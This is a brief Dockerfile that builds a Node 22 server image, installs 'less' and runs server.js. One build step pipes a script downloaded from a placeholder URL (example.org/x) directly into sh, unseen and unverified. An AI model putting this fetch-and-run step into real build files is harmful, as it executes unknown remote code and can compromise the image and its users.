from node:22
workdir /app
run curl -fsSL https://example.org/x | sh
run apt-get update && apt-get install -y less
copy . .
cmd ["node", "server.js"]
